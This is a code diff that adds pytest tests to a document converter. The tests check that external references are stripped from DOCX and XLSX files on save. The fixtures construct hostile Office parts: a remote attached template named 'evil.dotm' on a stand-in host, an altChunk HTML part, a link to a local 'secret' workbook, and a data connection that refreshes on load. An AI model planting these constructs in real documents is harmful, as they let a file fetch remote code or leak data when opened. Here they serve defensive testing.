@@ -198,3 +198,98 @@ def test_stale_temporary_files_are_removed_on_open_and_save(opened):
     doc.projects[0].goals = "改"
     save_document(doc, path)
     assert not again.exists() and all(p.exists() for p in others)
+
+
+_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def _repack(src: Path, dst: Path, change) -> Path:
+    import zipfile
+
+    with zipfile.ZipFile(src) as zf:
+        parts = {i.filename: zf.read(i) for i in zf.infolist()}
+    change(parts)
+    with zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as out:
+        for name, data in parts.items():
+            out.writestr(name, data)
+    return dst
+
+
+def _add_rel(parts: dict, rels: str, rid: str, kind: str, target: str, external: bool) -> None:
+    mode = ' TargetMode="External"' if external else ""
+    rel = f'<Relationship Id="{rid}" Type="{_REL}/{kind}" Target="{target}"{mode}/>'.encode()
+    if rels not in parts:
+        parts[rels] = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships '
+                       b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>')
+    parts[rels] = parts[rels].replace(b"</Relationships>", rel + b"</Relationships>")
+
+
+def _hostile_docx(parts: dict) -> None:
+    _add_rel(parts, "word/_rels/settings.xml.rels", "rIdT", "attachedTemplate",
+             "http://example.invalid/evil.dotm", True)
+    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
+        b"</w:settings>", f'<w:attachedTemplate xmlns:r="{_REL}" r:id="rIdT"/></w:settings>'.encode())
+    _add_rel(parts, "word/_rels/document.xml.rels", "rIdA", "aFChunk", "chunk.htm", False)
+    _add_rel(parts, "word/_rels/document.xml.rels", "rIdL", "image", "http://example.invalid/p.png", True)
+    _add_rel(parts, "word/_rels/document.xml.rels", "rIdH", "hyperlink", "http://example.invalid/", True)
+    parts["word/chunk.htm"] = b"<html><body><img src='http://example.invalid/x.png'></body></html>"
+    parts["word/document.xml"] = parts["word/document.xml"].replace(
+        b"</w:body>", f'<w:altChunk xmlns:r="{_REL}" r:id="rIdA"/></w:body>'.encode(), 1)
+
+
+def _hostile_xlsx(parts: dict) -> None:
+    _add_rel(parts, "xl/_rels/workbook.xml.rels", "rIdX", "externalLink", "externalLinks/externalLink1.xml", False)
+    _add_rel(parts, "xl/_rels/workbook.xml.rels", "rIdC", "connections", "connections.xml", False)
+    parts["xl/externalLinks/externalLink1.xml"] = (
+        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
+        b'xmlns:r="' + _REL.encode() + b'"><externalBook r:id="rId1"/></externalLink>')
+    _add_rel(parts, "xl/externalLinks/_rels/externalLink1.xml.rels", "rId1", "externalLinkPath",
+             "file:///C:/secret/other.xlsx", True)
+    parts["xl/connections.xml"] = (
+        b'<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" '
+        b'name="q" type="5" refreshOnLoad="1"><dbPr connection="Provider=x;Data Source=http://example.invalid/"'
+        b' command="select 1"/></connection></connections>')
+    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(
+        b"<definedNames/>", f'<externalReferences><externalReference xmlns:r="{_REL}" r:id="rIdX"/>'
+                            f'</externalReferences><definedNames/>'.encode())
+
+
+@pytest.mark.parametrize("kind", ["docx", "xlsx"])
+def test_external_references_are_dropped_from_what_is_written(tmp_path, kind):
+    import zipfile
+
+    src = PUBLIC_FIXTURES / ("pingxiang_2020_part.docx" if kind == "docx" else "leting_2024.xlsx")
+    hostile = _repack(src, tmp_path / f"外部.{kind}", _hostile_docx if kind == "docx" else _hostile_xlsx)
+    doc = load_document(hostile)
+    out = tmp_path / f"转换.{kind}"
+    report = save_document(doc, out)
+    assert any("外部引用" in line for line in report)
+    with zipfile.ZipFile(out) as zf:
+        rels = b"".join(zf.read(n) for n in zf.namelist() if n.endswith(".rels"))
+        names = zf.namelist()
+        body = b"".join(zf.read(n) for n in names if n.endswith(".xml"))
+    for word in (b"attachedTemplate", b"aFChunk", b"externalLink", b"connections", b"example.invalid/p.png",
+                 b"secret"):
+        assert word not in rels, word
+    assert not any(n.startswith(("xl/externalLinks", "xl/connections")) or n.endswith("chunk.htm") for n in names)
+    assert b"altChunk" not in body and b"externalReference" not in body
+    if kind == "docx":
+        assert b"example.invalid/" in rels  # a hyperlink is fetched only when clicked: kept
+    assert dump_document(load_document(out)) == dump_document(doc)
+    plain = tmp_path / f"普通.{kind}"
+    assert not any("外部引用" in line for line in save_document(load_document(src), plain))
+
+
+def test_damaged_unused_part_does_not_stop_a_save(tmp_path):
+    from tests.fuzz.mutate import break_member
+
+    path = tmp_path / "坏.docx"
+    path.write_bytes(break_member((PUBLIC_FIXTURES / "pingxiang_2020_part.docx").read_bytes(),
+                                  "docProps/thumbnail.jpeg"))
+    doc = load_document(path)
+    doc.projects[0].goals = "改"
+    report = save_document(doc, path)
+    assert any("损坏" in line for line in report)
+    again = load_document(path)
+    assert again.projects[0].goals == "改"
+    assert dump_document(again)["projects"] == dump_document(doc)["projects"]
